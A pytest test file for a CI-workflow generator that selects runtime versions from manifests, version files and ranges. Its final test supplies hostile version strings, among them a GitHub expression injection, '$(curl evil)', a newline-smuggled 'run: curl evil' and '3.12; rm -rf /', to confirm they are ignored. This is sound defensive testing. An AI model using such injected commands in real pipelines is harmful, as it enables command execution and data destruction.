from __future__ import annotations

import pytest

from libs.analysis.report import RuntimeVersion
from libs.cigen.versions import choose


def declared(
    runtime: str, version: str, source: str = "manifest", field: str | None = None
) -> RuntimeVersion:
    return RuntimeVersion(runtime=runtime, version=version, source=source, field=field)


@pytest.mark.parametrize(
    ("runtime", "version", "expected"),
    [
        ("python", "3.12", ("3.12",)),
        ("python", "3.12.4", ("3.12.4",)),
        ("node", "v20.11.1", ("20.11.1",)),
        ("node", "lts/iron", ("lts/iron",)),
        ("go", "go1.22.4", ("1.22.4",)),
        ("java", "1.8", ("8",)),
        ("java", "21", ("21",)),
        ("dotnet", "8.0.100", ("8.0.100",)),
        ("ruby", "ruby-3.3.0", ("ruby-3.3.0",)),
        ("elixir", "1.16.3-otp-26", ("1.16.3-otp-26",)),
    ],
)
def test_an_exact_version_is_used_verbatim(
    runtime: str, version: str, expected: tuple[str, ...]
) -> None:
    choice = choose(runtime, [declared(runtime, version)])
    assert choice.versions == expected
    assert not choice.is_matrix
    assert choice.note is None


@pytest.mark.parametrize(
    ("runtime", "spec", "expected"),
    [
        ("python", ">=3.10", ("3.11", "3.12", "3.13", "3.14")),
        ("python", "^3.9", ("3.11", "3.12", "3.13", "3.14")),
        ("python", "~3.11", ("3.11",)),
        ("python", ">=3.10.4,<3.12.5", ("3.11", "3.12")),
        ("python", "==3.11.*", ("3.11",)),
        ("python", ">3.12", ("3.12", "3.13", "3.14")),
        ("python", ">=3.8,<3.10", ("3.8", "3.9")),  # end-of-life, but all the range admits
        ("node", ">=18", ("22", "24")),
        ("node", "^20 || ^22", ("22",)),
        ("node", ">=18 <23", ("22",)),
        ("node", "18.x", ("18",)),
        ("ruby", "~> 3.2", ("3.3", "3.4")),
        ("php", "^8.1", ("8.2", "8.3", "8.4")),
        ("php", "~8.2", ("8.2", "8.3", "8.4")),  # composer's ~ is pessimistic, unlike npm's
        ("elixir", "~> 1.15", ("1.17", "1.18")),
    ],
)
def test_a_range_becomes_a_matrix_of_the_series_it_admits(
    runtime: str, spec: str, expected: tuple[str, ...]
) -> None:
    choice = choose(runtime, [declared(runtime, spec)])
    assert choice.versions == expected
    assert choice.declared is not None
    assert choice.declared.version == spec


def test_a_version_file_wins_over_a_range_in_a_manifest() -> None:
    choice = choose(
        "python",
        [
            declared("python", ">=3.10", "pyproject.toml", "project.requires-python"),
            declared("python", "3.12", ".python-version"),
        ],
    )
    assert choice.versions == ("3.12",)
    assert choice.declared is not None
    assert choice.declared.source == ".python-version"


def test_go_prefers_the_toolchain_line() -> None:
    choice = choose(
        "go",
        [declared("go", "1.22", "go.mod", "go"), declared("go", "go1.22.4", "go.mod", "toolchain")],
    )
    assert choice.versions == ("1.22.4",)


def test_rust_msrv_is_tested_with_stable_too_unless_a_toolchain_is_pinned() -> None:
    msrv = declared("rust", "1.74", "Cargo.toml", "package.rust-version")
    assert choose("rust", [msrv]).versions == ("1.74", "stable")
    pinned = declared("rust", "1.82.0", "rust-toolchain.toml", "toolchain.channel")
    assert choose("rust", [msrv, pinned]).versions == ("1.82.0",)


def test_asdf_lists_several_versions_and_the_first_is_active() -> None:
    choice = choose("python", [declared("python", "3.12.1 3.11.7", ".tool-versions", "python")])
    assert choice.versions == ("3.12.1",)


def test_erlang_is_read_as_otp() -> None:
    assert choose("otp", [declared("erlang", "26.2.5", ".tool-versions")]).versions == ("26.2.5",)


def test_nothing_declared_takes_the_default_and_says_so() -> None:
    choice = choose("python", [])
    assert choice.versions == ("3.13",)
    assert choice.declared is None
    assert choice.note == "no python version is declared; using 3.13"


def test_a_range_matching_no_release_takes_the_default_and_says_so() -> None:
    choice = choose("python", [declared("python", ">=3.7,<3.8", "setup.py")])
    assert choice.versions == ("3.13",)
    assert choice.note is not None
    assert "'>=3.7,<3.8' in setup.py matches no known release" in choice.note


@pytest.mark.parametrize(
    "hostile",
    [
        "${{ github.event.issue.title }}",
        "3.12\nrun: curl evil",
        "$(curl evil)",
        "3.12; rm -rf /",
        "x" * 80,
    ],
)
def test_a_version_that_is_not_a_version_string_is_ignored(hostile: str) -> None:
    choice = choose("python", [declared("python", hostile, "pyproject.toml")])
    assert choice.versions == ("3.13",)
    assert choice.note is not None
    assert choice.note.startswith("ignored python version(s)")
